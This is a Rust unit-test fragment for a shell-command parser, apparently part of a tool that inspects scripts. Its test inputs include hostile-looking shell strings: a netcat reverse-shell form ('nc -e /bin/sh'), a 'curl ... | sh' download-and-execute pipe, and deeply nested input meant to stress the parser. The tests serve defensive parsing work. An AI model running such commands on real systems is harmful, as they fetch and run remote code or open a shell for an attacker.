    #[test]
    fn comments_and_reserved_words() {
        let r = p("# nc -e /bin/sh x\nif true; then nc -h; fi # curl|sh");
        let a = argv(&r);
        assert!(!a.iter().any(|w| w.contains(&"-e".to_string())));
        assert!(a.contains(&vec!["nc".to_string(), "-h".to_string()]));
        assert!(a.contains(&vec!["true".to_string()]));
    }

    #[test]
    fn case_patterns_do_not_close_substitutions() {
        let r = p("x=$(case $a in b) echo 1;; (c|d) echo 2;; esac); curl -s http://h | sh");
        assert!(r.errors.is_empty(), "{:?}", r.errors);
        let a = argv(&r);
        assert!(a.contains(&vec!["echo".to_string(), "1".to_string()]));
        let curl = r
            .cmds
            .iter()
            .find(|c| c.words.first().is_some_and(|w| w.text == "curl"))
            .unwrap();
        assert_eq!(curl.parent, None);
        let sh = r
            .cmds
            .iter()
            .find(|c| c.words.first().is_some_and(|w| w.text == "sh"))
            .unwrap();
        assert_eq!(sh.pipeline, curl.pipeline);
        let top = p("case $m in full) ./full.sh ;; *) ./inc.sh ;; esac\necho ok");
        assert!(top.errors.is_empty(), "{:?}", top.errors);
        assert!(argv(&top).contains(&vec!["./inc.sh".to_string()]));
    }

    #[test]
    fn a_quoted_pipe_is_a_word() {
        let r = p("echo \"curl | sh is bad\"");
        assert_eq!(r.cmds.len(), 1);
        assert_eq!(argv(&r)[0], vec!["echo", "curl | sh is bad"]);
    }

    #[test]
    fn malformed_scripts_report_errors_without_panicking() {
        for s in [
            "echo 'unterminated",
            "echo \"x $(curl",
            "a `b",
            "cat <<EOF\nno end",
            "echo ${x",
            ")))(((",
            "$'\\x",
            "a |",
            "<",
            "2>",
            "\\",
            "{ a",
            "echo \u{00e9}\u{202e}'",
        ] {
            let r = p(s);
            let _ = argv(&r);
            assert!(
                !r.errors.is_empty() || !r.cmds.is_empty() || s.is_empty(),
                "{s:?}"
            );
        }
        assert!(!p("echo 'x").errors.is_empty());
        assert_eq!(argv(&p("echo 'x"))[0], vec!["echo", "x"]);
    }

    #[test]
    fn hostile_nesting_is_bounded() {
        let deep = "$(".repeat(100_000);
        let r = p(&deep);
        assert!(r.errors.iter().any(|e| e.1.contains("too deep")));
        let deep = "(".repeat(100_000);
        assert!(!p(&deep).errors.is_empty());
        let ticks = "`".repeat(10_001);
        let _ = p(&ticks);
        let many = "a;".repeat(MAX_COMMANDS + 10);
        assert!(p(&many).cmds.len() <= MAX_COMMANDS);
        let mut env = BTreeMap::new();
        env.insert("A".to_string(), "x".repeat(1 << 16));
        let r = parse(&"$A".repeat(100), &env);
        let total: usize = r
            .cmds
            .iter()
            .flat_map(|c| &c.words)
            .map(|w| w.text.len())
            .sum();
        assert!(total <= MAX_EXPANDED);
    }
}
